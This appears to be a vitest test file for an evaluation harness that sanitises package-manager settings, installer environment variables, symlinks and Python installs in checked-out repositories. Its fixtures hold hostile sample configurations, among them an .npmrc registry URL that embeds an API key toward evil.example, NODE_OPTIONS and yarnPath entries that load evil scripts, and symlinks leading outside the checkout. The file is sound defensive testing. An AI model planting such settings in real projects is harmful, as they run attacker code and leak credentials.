import { existsSync } from "node:fs";
import { mkdir, mkdtemp, readFile, readdir, rm, symlink, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { dirname, join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { buildVirtualEnvironment } from "../../../../eval/environments/local/build.ts";
import { installPackages } from "../../../../eval/environments/local/install-packages.ts";
import {
  nodeInstallerVariables,
  pythonInstallerVariables,
} from "../../../../eval/environments/local/installer-variables.ts";
import { disarmManagerFiles } from "../../../../eval/environments/local/manager-files.ts";

const { signal } = new AbortController();
let folder: string;
beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), "installers-"));
});
afterAll(() => rm(folder, { recursive: true, force: true }));

async function write(files: Readonly<Record<string, string>>, at: string): Promise<string> {
  for (const [path, text] of Object.entries(files)) {
    await mkdir(dirname(join(at, path)), { recursive: true });
    await writeFile(join(at, path), text, { mode: 0o755 });
  }
  return at;
}

describe("the variables of an installer", () => {
  const given = {
    PATH: "/bin",
    ANTHROPIC_API_KEY: "secret",
    GITHUB_TOKEN: "secret",
    NODE_OPTIONS: "--require ./evil.js",
    PYTHONPATH: "/evil",
    PIP_TARGET: "/evil",
    npm_config_git: "./evil",
    npm_config_registry: "https://registry.example/",
    https_proxy: "http://proxy.example",
    PIP_INDEX_URL: "https://index.example/",
    SSL_CERT_FILE: "/certificates",
  };

  it("are those of the machine's registries and certificates, without any key", () => {
    const kept = { PATH: "/bin", https_proxy: given.https_proxy, SSL_CERT_FILE: "/certificates" };
    const node = nodeInstallerVariables(given);
    expect(node).toMatchObject({ ...kept, npm_config_registry: given.npm_config_registry });
    expect(node).toMatchObject({ npm_config_git: "git", npm_config_ignore_scripts: "true" });
    expect(JSON.stringify(node)).not.toMatch(/secret|evil/);
    expect(pythonInstallerVariables(given)).toEqual({
      ...kept,
      PIP_INDEX_URL: given.PIP_INDEX_URL,
    });
  });
});

describe("a checkout that packages are installed in", () => {
  it("loses the settings that run, send or write something, and keeps the layout", async () => {
    const checkout = await write(
      {
        ".yarnrc": "yarn-path ./evil.js\n",
        ".yarnrc.yml": "yarnPath: ./evil.js\n",
        ".npmrc": [
          "legacy-peer-deps=true",
          "git=./evil",
          "registry=https://evil.example/${ANTHROPIC_API_KEY}/",
          "@scope:registry=https://evil.example",
          "public-hoist-pattern[]=*types*",
          "node-options=--require ./evil.js",
          "hoist=${ANTHROPIC_API_KEY}",
        ].join("\n"),
        "pnpm-workspace.yaml":
          "packages:\n  - packages/*\nscriptShell: ./evil\nregistry: https://evil.example\nstoreDir: /evil\n",
      },
      join(folder, "settings"),
    );
    await disarmManagerFiles(checkout);
    expect((await readdir(checkout)).sort()).toEqual([".npmrc", "pnpm-workspace.yaml"]);
    expect(await readFile(join(checkout, ".npmrc"), "utf8")).toBe(
      "legacy-peer-deps=true\npublic-hoist-pattern[]=*types*\n",
    );
    expect(await readFile(join(checkout, "pnpm-workspace.yaml"), "utf8")).toBe(
      "packages:\n  - packages/*\n",
    );
  });

  it("has no links that lead out of it, through which a package manager would write", async () => {
    const checkout = await write(
      { "a/package.json": "{}", "real-npmrc": "hoist=false\n" },
      join(folder, "links"),
    );
    const target = join(folder, "users-file");
    await writeFile(target, "mine\n");
    const links = {
      "package-lock.json": target,
      "a/node_modules": "../../absent",
      "a/away": folder,
      "a/inside": "package.json",
      ".npmrc": "real-npmrc",
    };
    for (const [path, to] of Object.entries(links)) await symlink(to, join(checkout, path));
    await disarmManagerFiles(checkout);
    expect((await readdir(checkout, { recursive: true })).sort()).toEqual([
      "a",
      "a/inside",
      "a/package.json",
      "real-npmrc",
    ]);
    expect(await readFile(target, "utf8")).toBe("mine\n");
  });

  it("is not asked for the package manager, which is told no keys", async () => {
    const told = join(folder, "told");
    const tell = `#!/bin/sh\n{ echo "$(pwd) $*"; env; } >>${told}\n`;
    const programs = await write(
      { npm: `${tell}mkdir -p node_modules/.bin; cp ../../pnpm node_modules/.bin/pnpm\n` },
      join(folder, "programs"),
    );
    await write({ pnpm: tell }, folder);
    const checkout = await write(
      { "node_modules/.bin/pnpm": "#!/bin/sh\ntouch evil\n" },
      join(folder, "hostile"),
    );
    await installPackages(checkout, {
      wanted: {
        instance: { repository: "a/b", baseCommit: "" },
        install: ["pnpm@9.10.0", "install", "--frozen-lockfile"],
        node: { folder: programs, version: [24, 0, 0], notes: [] },
      },
      options: {
        signal,
        variables: { PATH: process.env["PATH"], ANTHROPIC_API_KEY: "secret" },
      },
      besides: join(folder, "besides"),
    });
    const text = await readFile(told, "utf8");
    expect(text).toContain(
      `${checkout} install --ignore-scripts --ignore-pnpmfile --frozen-lockfile\n`,
    );
    expect(text).toMatch(/besides\/manager install --ignore-scripts .* pnpm@9\.10\.0\n/);
    expect(text).toContain("npm_config_ignore_scripts=true");
    expect(text).not.toContain("secret");
    expect(existsSync(join(checkout, "evil"))).toBe(false);
  });
});

describe("packages of Python", () => {
  it("are wheels in a row's own environment: others would run a program to be installed", async () => {
    const told = join(folder, "pip");
    // Makes the folders of a virtual environment, and there notes what pip is told.
    const program = `#!/bin/sh
if [ "$2" = venv ]; then
  mkdir -p "$3/bin" "$3/lib/python3.11/site-packages"; cp "$0" "$3/bin/python"
else
  echo "$*" >>${told}; env >>${told}
fi
`;
    await write({ python: program }, folder);
    const executable = join(folder, "python");
    const environment = {
      python: "3.11",
      packages: ["attrs==24.1.0"],
      imports: ["."],
      bootstrap: [],
      project: { name: "a", version: "0", scripts: {}, entryPoints: {} },
    };
    const python = { executable, version: "3.11.1", prefix: folder, origin: "path" };
    const variables = { PATH: process.env["PATH"], OPENAI_API_KEY: "secret" };
    const build = (given: { readonly name: string; readonly onlyWheels?: true }) =>
      buildVirtualEnvironment(join(folder, given.name), {
        environment: { ...environment, ...given },
        python,
        variables,
        signal,
      });
    await build({ name: "pins" });
    await build({ name: "row", onlyWheels: true });
    const text = await readFile(told, "utf8");
    const pip = text.split("\n").filter((line) => line.startsWith("-m pip install"));
    expect(pip[0]).not.toContain("--only-binary");
    expect(pip[1]).toMatch(/ --only-binary :all: -- attrs==24\.1\.0$/);
    expect(text).not.toContain("secret");
  });
});
